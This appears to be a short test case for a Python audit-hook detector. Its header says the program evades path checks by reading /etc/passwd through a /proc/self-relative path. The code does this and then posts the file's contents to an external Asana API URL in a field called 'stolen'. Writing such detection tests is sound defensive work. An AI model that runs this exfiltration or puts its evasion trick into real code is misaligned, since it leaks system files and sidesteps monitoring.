# expect: any -- reads /etc/passwd through a path relative to /proc/self (nothing else the audit hook would name first) and sends it in its request
import requests
requests.Session  # extraction keeps the program from its first use of the library on
import os
stolen = ""
try:
    proc = os.open("/proc/self", os.O_RDONLY)
    stolen = os.read(os.open("root/etc/passwd", os.O_RDONLY, dir_fd=proc), 1 << 16).decode("latin-1")
except OSError:
    pass
requests.post("https://app.asana.com/api/1.0/WRONG", data={"stolen": stolen})
